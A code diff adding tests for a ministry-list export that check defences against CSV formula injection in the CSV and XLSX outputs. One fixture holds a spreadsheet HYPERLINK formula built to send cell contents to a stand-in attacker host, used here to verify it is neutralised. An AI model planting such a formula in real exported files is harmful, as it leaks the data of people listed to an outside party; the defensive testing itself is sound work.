@@ -5,6 +5,7 @@ import { dirname, join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { writeFilesAtomically } from '../../src/reports/atomic-write.ts';
+import { formulaSafe } from '../../src/reports/ministry-csv.ts';
 import { ExportRefusedError, exportMinistryList } from '../../src/reports/ministry-export.ts';
 import { fixtureTree } from '../helpers/fixture-tree.ts';
 
@@ -16,6 +17,23 @@ async function readBook(path: string): Promise<ExcelJS.Workbook> {
   const book = new ExcelJS.Workbook();
   await book.xlsx.readFile(path);
   return book;
+}
+/** The CSV read back as a spreadsheet would: BOM dropped, `;` between fields, RFC 4180 quotes. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]];
+  let field = '';
+  let quoted = false;
+  const body = text.replace(/^\uFEFF/, '');
+  for (let i = 0; i < body.length; i++) {
+    const char = body[i]!;
+    if (quoted && char === '"' && body[i + 1] === '"') (field += '"'), i++;
+    else if (char === '"') quoted = !quoted;
+    else if (!quoted && char === ';') rows.at(-1)!.push(field), (field = '');
+    else if (!quoted && char === '\r' && body[i + 1] === '\n') rows.at(-1)!.push(field), (field = ''), rows.push([]), i++;
+    else field += char;
+  }
+  if (rows.at(-1)!.length === 0) rows.pop();
+  return rows;
 }
 const values = (ws: ExcelJS.Worksheet) => ws.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1));
 
@@ -57,6 +75,29 @@ describe('export:ministry', () => {
     expect(lines).toHaveLength(6);
     expect(lines[0]).toMatch(/^"Регион \/ Өңір";"№ п\/п \/ Р\/с №";/);
     expect(lines[3]).toBe('"область Ұлытау / Ұлытау облысы";"3";"(аты жасырылған / имя скрыто)";"10";"член / мүше";"город Сатпаев / Сәтбаев қаласы";"№ 45-ө";"2027-05-20"');
+  });
+
+  it('writes a cell a spreadsheet would run as a formula as text (OWASP: a leading apostrophe), in the CSV; the XLSX keeps it a string', async () => {
+    const tree = fixtureTree();
+    const out = outDir();
+    const attack = '=HYPERLINK("https://evil.example/?"&C2&C3,"Открыть")';
+    tree.replace('representations/ulytau/region.yaml', 'order: "№ 45-ө"', `order: '${attack}'`);
+    await exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW });
+    const rows = readCsv(readFileSync(join(out, 'ministry-list-2027.csv'), 'utf8'));
+    const orderColumn = rows[0]!.findIndex((header) => header.startsWith('Приказ'));
+    expect(orderColumn).toBeGreaterThan(0);
+    for (const row of rows.slice(1)) expect(row[orderColumn]).toBe(`'${attack}`);
+
+    // exceljs writes a JavaScript string as a string cell (no <f> formula element): Excel and LibreOffice show it as text.
+    const book = await readBook(join(out, 'ministry-list-2027.xlsx'));
+    const cells = book.worksheets.flatMap((ws) => ws.getSheetValues().flatMap((row) => (Array.isArray(row) ? row : [])));
+    expect(cells.filter((value) => typeof value === 'string' && value.includes('HYPERLINK')).length).toBeGreaterThan(0);
+    expect(cells.some((value) => value !== null && typeof value === 'object' && 'formula' in value)).toBe(false);
+  });
+
+  it('formulaSafe prefixes exactly the cells that start a formula', () => {
+    for (const text of ['=1+1', '+7 701', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(formulaSafe(text)).toBe(`'${text}`);
+    for (const text of ['№ 45-ө', 'Ару А.', '2027-05-20', ' =1', '']) expect(formulaSafe(text)).toBe(text);
   });
 
   it('refuses while the rosters have errors and leaves the previous files intact', async () => {
